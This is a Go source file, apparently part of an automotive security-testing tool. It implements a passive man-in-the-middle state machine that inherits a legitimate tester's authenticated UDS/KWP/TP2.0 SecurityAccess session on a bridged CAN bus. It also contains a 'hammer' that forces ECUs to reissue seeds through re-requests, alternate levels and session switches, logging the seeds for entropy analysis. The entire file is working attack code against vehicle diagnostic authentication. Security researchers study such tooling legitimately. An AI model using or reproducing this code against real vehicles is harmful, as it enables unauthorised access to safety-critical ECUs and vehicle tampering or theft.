// Package hijack implements C6 (spec §4.6): a passive observer around the
// SecurityAccess handshake that inherits a legitimate tester's
// authenticated session, and the seed-collection "hammer" that forces an
// ECU to reissue seeds to gauge randomness quality.
//
// Spec §9 calls for factoring the hijack FSM generically over an
// "observation source" yielding (bus, id, payload) triples plus matcher
// functions for request/seed/key-ack/auth-fail, so UDS, KWP and TP2.0
// hijacks share one implementation; that is exactly the shape below --
// Source and Matchers are the generic seam, with protocol-specific
// matcher sets built in pkg/uds/pkg/kwp/pkg/tp20 call sites rather than
// here. Grounded on the same generic-FSM-over-an-interface idiom a
// CANopen SDO client uses for its own state-driven Process step.
package hijack

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"time"
)

// Observation is one bridged frame: which physical bus it arrived on, its
// identifier, and its payload.
type Observation struct {
	Bus     int
	ID      uint32
	Payload []byte
}

// Source yields bridged-bus observations, bounded by timeout (spec §5:
// every suspension point is a bounded busy-wait, never an indefinite
// block).
type Source interface {
	Next(timeout time.Duration) (Observation, error)
}

// ErrSourceTimeout is returned by a Source when no observation arrives
// within the requested window.
var ErrSourceTimeout = errors.New("hijack: observation source timeout")

// Matchers classifies observations for the hijack FSM. Each matcher
// returns ok=false for any observation that isn't the thing it looks for.
type Matchers struct {
	// IsSeedRequest recognizes a tester-side SecurityAccess seed request
	// (odd level, no key bytes) and returns the requested level.
	IsSeedRequest func(Observation) (level byte, ok bool)
	// IsSeedReply recognizes an ECU-side positive seed response and
	// returns the seed bytes.
	IsSeedReply func(Observation) (seed []byte, ok bool)
	// IsKeyReply recognizes an ECU-side positive SecurityAccess reply to
	// the tester's key submission (the final step before HIJACKED).
	IsKeyReply func(Observation) bool
	// IsAuthFailure recognizes an ECU-side negative response to a key
	// submission (security access denied / invalid key), resetting the
	// FSM to WAIT_REQ.
	IsAuthFailure func(Observation) bool
}

// State is the hijack engine's position in spec §4.6's five-state
// diagram.
type State uint8

const (
	StateWaitRequest State = iota
	StateWaitSeed
	StateWaitKey
	StateHijacked
)

func (s State) String() string {
	switch s {
	case StateWaitRequest:
		return "WAIT_REQ"
	case StateWaitSeed:
		return "WAIT_SEED"
	case StateWaitKey:
		return "WAIT_KEY"
	case StateHijacked:
		return "HIJACKED"
	default:
		return "unknown"
	}
}

// StepLimit bounds each state's wait at 100 frames, per spec §4.6/§5;
// overflow resets the FSM to WAIT_REQ.
const StepLimit = 100

// Result is what a successful hijack hands back: the security level
// captured, and (for a TP2.0-carried handshake only) the sequence
// counter observed in flight so the inherited session's tx/rx counters
// can be seeded correctly.
type Result struct {
	Level       byte
	TP20Counter *uint8
}

// Engine runs the five-state hijack FSM against a Source.
type Engine struct {
	logger *slog.Logger
}

// New creates a hijack engine.
func New(logger *slog.Logger) *Engine {
	if logger == nil {
		logger = slog.Default()
	}
	return &Engine{logger: logger.With("component", "hijack")}
}

// Run drives the FSM until it reaches HIJACKED or the source returns an
// error other than ErrSourceTimeout, which is propagated; a per-step
// timeout just advances the attempt count and, on StepLimit, resets to
// WAIT_REQ and keeps going.
//
// tp20Sequence, when non-nil, is consulted on each observation to learn
// the TP2.0 sequence counter in flight; it is surfaced in Result so a
// TP2.0 session can be reconstructed with matching tx/rx counters.
func (e *Engine) Run(source Source, m Matchers, stepTimeout time.Duration, tp20Sequence func(Observation) (uint8, bool)) (Result, error) {
	state := StateWaitRequest
	var level byte
	var tp20Counter *uint8
	stepCount := 0

	for {
		obs, err := source.Next(stepTimeout)
		if err != nil {
			if !errors.Is(err, ErrSourceTimeout) {
				return Result{}, err
			}
			stepCount++
			if stepCount >= StepLimit {
				e.logger.Debug("hijack step limit reached, resetting", "state", state)
				state = StateWaitRequest
				stepCount = 0
			}
			continue
		}
		stepCount++

		if tp20Sequence != nil {
			if seq, ok := tp20Sequence(obs); ok {
				tp20Counter = &seq
			}
		}

		switch state {
		case StateWaitRequest:
			if lvl, ok := m.IsSeedRequest(obs); ok {
				level = lvl
				state = StateWaitSeed
				stepCount = 0
			}
		case StateWaitSeed:
			if _, ok := m.IsSeedReply(obs); ok {
				state = StateWaitKey
				stepCount = 0
			}
		case StateWaitKey:
			if m.IsKeyReply(obs) {
				state = StateHijacked
			} else if m.IsAuthFailure(obs) {
				e.logger.Debug("security access denied, resetting to WAIT_REQ")
				state = StateWaitRequest
				stepCount = 0
			}
		}

		if state == StateHijacked {
			return Result{Level: level, TP20Counter: tp20Counter}, nil
		}

		if stepCount >= StepLimit {
			e.logger.Debug("hijack step limit reached, resetting", "state", state)
			state = StateWaitRequest
			stepCount = 0
		}
	}
}

// SeedRequester is the narrow surface the hammer drives: request a fresh
// seed at a level, or switch the active diagnostic session.
type SeedRequester interface {
	RequestSeed(level byte, timeout time.Duration) ([]byte, error)
	SwitchSession(level byte, timeout time.Duration) error
}

// TechniqueRetryLimit is the per-technique retirement bound (spec §4.6:
// "each technique that fails for 5 iterations is retired").
const TechniqueRetryLimit = 5

// Hammer runs the seed-variance loop of spec §4.6 against a single-ended
// session.
type Hammer struct {
	target SeedRequester
	logger *slog.Logger

	doesReRequest     bool
	doesAltLevel      bool
	doesSessionSwitch bool
}

// NewHammer creates a Hammer with all three techniques initially enabled.
func NewHammer(target SeedRequester, logger *slog.Logger) *Hammer {
	if logger == nil {
		logger = slog.Default()
	}
	return &Hammer{
		target:            target,
		logger:            logger.With("component", "hammer"),
		doesReRequest:     true,
		doesAltLevel:      true,
		doesSessionSwitch: true,
	}
}

// ErrNotVulnerable is returned once all three variance techniques have
// retired: the DUT kept repeating a seed and none of the techniques made
// it issue a different one.
var ErrNotVulnerable = errors.New("hammer: all variance techniques retired without a new seed")

// Collect runs up to maxSeeds iterations, requesting fresh seeds at
// level, and returns every seed observed (repeats included -- a repeat is
// itself the finding). currentDiagSession is the session the target was
// in before the hammer started; per spec §9's preserved Open Question,
// the session-switch technique's fallback target session is
// currentDiagSession+2, an arbitrary value from the original firmware
// that can name an invalid session and is kept verbatim with a logged
// warning rather than silently corrected.
func (h *Hammer) Collect(level byte, currentDiagSession byte, maxSeeds int, timeout time.Duration) ([][]byte, error) {
	var seeds [][]byte
	var prev []byte

	reRequestFails, altLevelFails, sessionFails := 0, 0, 0

	for len(seeds) < maxSeeds {
		seed, err := h.target.RequestSeed(level, timeout)
		if err != nil {
			return seeds, err
		}
		seeds = append(seeds, seed)

		if prev != nil && bytesEqual(seed, prev) {
			h.logger.Warn("seed repeated, attempting variance techniques", "iteration", len(seeds))
			varied := false

			if h.doesReRequest {
				if again, err := h.target.RequestSeed(level, timeout); err == nil && !bytesEqual(again, seed) {
					varied = true
				} else {
					reRequestFails++
					if reRequestFails >= TechniqueRetryLimit {
						h.doesReRequest = false
						h.logger.Debug("retiring re-request technique")
					}
				}
			}
			if !varied && h.doesAltLevel {
				altLevel := level + 2
				if alt, err := h.target.RequestSeed(altLevel, timeout); err == nil && !bytesEqual(alt, seed) {
					varied = true
				} else {
					altLevelFails++
					if altLevelFails >= TechniqueRetryLimit {
						h.doesAltLevel = false
						h.logger.Debug("retiring alternate-level technique")
					}
				}
			}
			if !varied && h.doesSessionSwitch {
				validSession := currentDiagSession + 2 // spec §9 Open Question: arbitrary, preserved verbatim
				h.logger.Warn("switching diagnostic session to force seed variance",
					"from", currentDiagSession, "to", validSession)
				if err := h.target.SwitchSession(validSession, timeout); err == nil {
					_ = h.target.SwitchSession(currentDiagSession, timeout)
					varied = true
				} else {
					sessionFails++
					if sessionFails >= TechniqueRetryLimit {
						h.doesSessionSwitch = false
						h.logger.Debug("retiring session-switch technique")
					}
				}
			}

			if !varied && !h.doesReRequest && !h.doesAltLevel && !h.doesSessionSwitch {
				return seeds, ErrNotVulnerable
			}
		}
		prev = seed
	}
	return seeds, nil
}

func bytesEqual(a, b []byte) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// AppendSeedSample appends one 4-byte seed sample to the SD seed log
// (spec §4.6: "collected seeds are appended to an SD file as 4-byte
// samples"). Seeds shorter than 4 bytes are zero-padded; longer ones are
// truncated, since the on-disk sample format is fixed-width.
func AppendSeedSample(w io.Writer, seed []byte) error {
	var sample [4]byte
	copy(sample[:], seed)
	_, err := w.Write(sample[:])
	return err
}

// ExportSeedCSV reads a raw 4-byte-sample seed log (as AppendSeedSample
// produces) and writes a CSV with index/hex/decimal columns, recovered
// from spec §4.6's closing sentence ("later post-processed into a CSV
// for offline entropy analysis") since the distillation names the
// output format but not a function.
func ExportSeedCSV(r io.Reader, w io.Writer) error {
	bw := bufio.NewWriter(w)
	if _, err := bw.WriteString("index,hex,decimal\n"); err != nil {
		return err
	}
	buf := make([]byte, 4)
	for i := 0; ; i++ {
		n, err := io.ReadFull(r, buf)
		if err == io.EOF {
			break
		}
		if err != nil && err != io.ErrUnexpectedEOF {
			return err
		}
		if n < 4 {
			break
		}
		v := binary.BigEndian.Uint32(buf)
		if _, err := fmt.Fprintf(bw, "%d,%08X,%d\n", i, v, v); err != nil {
			return err
		}
	}
	return bw.Flush()
}
